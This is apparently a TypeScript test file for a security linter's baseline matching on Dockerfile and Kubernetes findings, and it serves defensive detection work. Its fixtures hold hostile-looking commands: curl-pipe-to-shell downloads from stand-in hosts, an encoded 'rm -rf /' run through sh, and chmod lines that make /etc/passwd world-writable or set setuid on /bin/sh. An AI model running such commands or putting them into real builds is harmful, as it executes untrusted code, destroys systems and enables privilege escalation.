/** A baseline knows a finding by its subject: of what an attacker would change, each makes another one. */
import assert from "node:assert/strict";
import { test } from "node:test";
import { findings as dockerfileFindings } from "../build/dockerfile/lint.fixture.ts";
import type { LintCheck } from "../build/dockerfile/lint-check.ts";
import { buildChecks } from "../build/index.ts";
import { clusterChecks } from "../cluster/index.ts";
import { binding, manifestOf, role, ruleWords } from "../cluster/rbac/rbac.fixture.ts";
import { workloadChecks } from "../workload/index.ts";
import { findingsOf as manifestFindings } from "../workload/kubernetes/workload.fixture.ts";
import { clipSubject } from "./one-line.ts";

const checks = [...buildChecks, ...clusterChecks, ...workloadChecks];

function subjects(id: string, text: string): string[] {
  const check = checks.find((each) => each.id === id);
  assert.ok(check !== undefined, id);
  const build = buildChecks.find((each) => each.id === id);
  return (build === undefined ? manifestFindings(check, text) : dockerfileFindings(build as LintCheck, text))
    .map(({ subject }) => subject)
    .sort();
}

const pod = (spec: object, template: object = {}): string =>
  JSON.stringify({
    apiVersion: "v1",
    kind: "Pod",
    metadata: { name: "web", namespace: "shop", ...template },
    spec: { containers: [{ name: "web", image: "registry.example/web:1" }], ...spec },
  });
const container = (more: object): string => pod({ containers: [{ name: "web", image: "a", ...more }] });
const run = (script: string): string => `FROM debian:13\nRUN ${script}\n`;

/** The check, what was accepted, and what was made of it. */
const changed: readonly (readonly [string, string, string])[] = [
  ["build/curl-pipe-shell", run("curl https://a.example/i | sh"), run("curl https://b.example/i | sh")],
  ["build/curl-pipe-shell", run("curl a.example/i | sh"), run("curl b.example/i | sh")],
  ["build/curl-pipe-shell", run("curl https://github.com/a/i | sh"), run("curl https://github.com/b/i | sh")],
  [
    "build/curl-pipe-shell",
    `FROM debian:13\nARG U=https://a.example\nRUN curl $U/i | sh\n`,
    `FROM debian:13\nARG U=https://b.example\nRUN curl $U/i | sh\n`,
  ],
  ["build/curl-pipe-shell", run("U=https://a.example; curl $U/i | sh"), run("U=https://b.example; curl $U/i | sh")],
  [
    "build/plain-http-download",
    run("curl -O http://a.example/i"),
    run("curl -O http://a.example/i -O http://b.example/i"),
  ],
  ["build/pip-unpinned", run("pip install flask"), run("pip install --index-url https://b.example/simple flask")],
  [
    "build/apt-key-add",
    run("curl https://a.example/k | apt-key add -"),
    run("curl https://b.example/k | apt-key add -"),
  ],
  ["build/tls-verification-off", run("curl -k https://a.example/i"), run("curl -k https://b.example/i")],
  ["build/decoded-script-run", run("echo aWQ= | base64 -d | sh"), run("echo cm0gLXJmIC8= | base64 -d | sh")],
  ["build/world-writable-mode", run("chmod 777 /tmp/a"), run("chmod 777 /etc/passwd")],
  ["build/setuid-bit", run("chmod u+s /usr/bin/a"), run("chmod u+s /bin/sh")],
  ["build/unsafe-search-path", "FROM a:1\nENV PATH=.:/bin\n", "FROM a:1\nENV PATH=/tmp:/bin\n"],
  [
    "workload/capabilities-baseline",
    container({ securityContext: { capabilities: { add: ["NET_ADMIN"] } } }),
    container({ securityContext: { capabilities: { add: ["NET_ADMIN", "SYS_ADMIN"] } } }),
  ],
  [
    "workload/capabilities-restricted",
    container({ securityContext: { capabilities: { drop: ["ALL"], add: ["CHOWN"] } } }),
    container({ securityContext: { capabilities: { drop: ["ALL"], add: ["SETUID"] } } }),
  ],
  [
    "workload/host-path-volumes",
    pod({ volumes: [{ name: "a", hostPath: { path: "/var/log" } }] }),
    pod({ volumes: [{ name: "a", hostPath: { path: "/" } }] }),
  ],
  [
    "workload/host-ports",
    container({ ports: [{ containerPort: 1, hostPort: 80 }] }),
    container({ ports: [{ containerPort: 1, hostPort: 22 }] }),
  ],
  ["workload/image-without-digest", container({ image: "a.example/web:1" }), container({ image: "b.example/web:1" })],
  ["workload/image-latest-tag", container({ image: "web" }), container({ image: "mallory/web" })],
  [
    "workload/sysctls",
    pod({ securityContext: { sysctls: [{ name: "kernel.msgmax", value: "1" }] } }),
    pod({ securityContext: { sysctls: [{ name: "kernel.msgmax", value: "2" }] } }),
  ],
  [
    "workload/selinux",
    container({ securityContext: { seLinuxOptions: { type: "svirt_t" } } }),
    container({ securityContext: { seLinuxOptions: { type: "spc_t" } } }),
  ],
  [
    "workload/volume-types",
    pod({ volumes: [{ name: "a", nfs: { server: "a", path: "/" } }] }),
    pod({ volumes: [{ name: "a", iscsi: { targetPortal: "a" } }] }),
  ],
  [
    "workload/secret-in-environment",
    container({ env: [{ name: "A", valueFrom: { secretKeyRef: { name: "own", key: "a" } } }] }),
    container({ env: [{ name: "A", valueFrom: { secretKeyRef: { name: "root", key: "a" } } }] }),
  ],
  [
    "workload/low-user-id",
    pod({ securityContext: { supplementalGroups: [100] } }),
    pod({ securityContext: { supplementalGroups: [100, 999] } }),
  ],
];

const bindingChecks: readonly (readonly [string, string])[] = [
  ["cluster/rbac-cluster-admin", "*|*|*"],
  ["cluster/rbac-secrets-read", "get|secrets"],
  ["cluster/rbac-wildcard", "*|apps|*"],
  ["cluster/rbac-pod-create", "create|pods"],
  ["cluster/rbac-escalation", "bind|rbac.authorization.k8s.io|clusterroles"],
];

test("a binding's role and those it is for, in whichever order they stand", () => {
  for (const [id, words] of bindingChecks) {
    const roles = [role("a", [ruleWords(words)]), role("b", [ruleWords(words)])];
    const of = (name: string, ...subjects: string[]): string[] =>
      subjects.length === 0 ? [] : subjectsOf(id, ...roles, binding("it", name, subjects));
    const known = of("a", "User ada", "Group ops", "shop/web", "User bob", "User eve");
    assert.equal(known.length, 1, id);
    assert.deepEqual(of("a", "User eve", "User bob", "shop/web", "Group ops", "User ada"), known);
    assert.notDeepEqual(of("b", "User ada", "Group ops", "shop/web", "User bob", "User eve"), known, id);
    // Behind those that are shown, too.
    assert.notDeepEqual(of("a", "User ada", "Group ops", "shop/web", "User bob", "User mallory"), known, id);
  }
});

const subjectsOf = (id: string, ...objects: object[]): string[] => subjects(id, manifestOf(...objects));

test("what a binding to everybody, or a default account, is given", () => {
  for (const [id, subject] of [
    ["cluster/rbac-everyone", "Group system:authenticated"],
    ["cluster/rbac-default-service-account", "shop/default"],
  ] as const) {
    const given = (words: string): string[] =>
      subjectsOf(id, role("r", [ruleWords(words)]), binding("b", "r", [subject]));
    assert.equal(given("get|configmaps").length, 1);
    assert.notDeepEqual(given("get|configmaps"), given("get|pods/log"), id);
  }
});

for (const [id, before, after] of changed) {
  test(`${id}: ${after.slice(0, 160).replaceAll("\n", " ")}`, () => {
    const known = new Set(subjects(id, before));
    assert.ok(known.size > 0, "found before");
    const now = subjects(id, after);
    assert.ok(
      now.some((subject) => !known.has(subject)),
      [...now, ...known].join(" | "),
    );
  });
}

test("a download is the same when its version or its place in the file changes", () => {
  const one = subjects("build/curl-pipe-shell", run("curl https://a.example/v1.0/i | sh"));
  assert.deepEqual(subjects("build/curl-pipe-shell", `# moved\n${run("curl https://a.example/v1.1/i | sh")}`), one);
});

test("what is cut off a subject still tells it from another", () => {
  const long = "a".repeat(500);
  assert.notEqual(clipSubject(`${long}b`), clipSubject(`${long}c`));
  assert.equal(clipSubject(`${long}b`), clipSubject(`${long}b`));
  assert.ok(clipSubject(long).length <= 120);
  assert.equal(clipSubject("short"), "short");
});
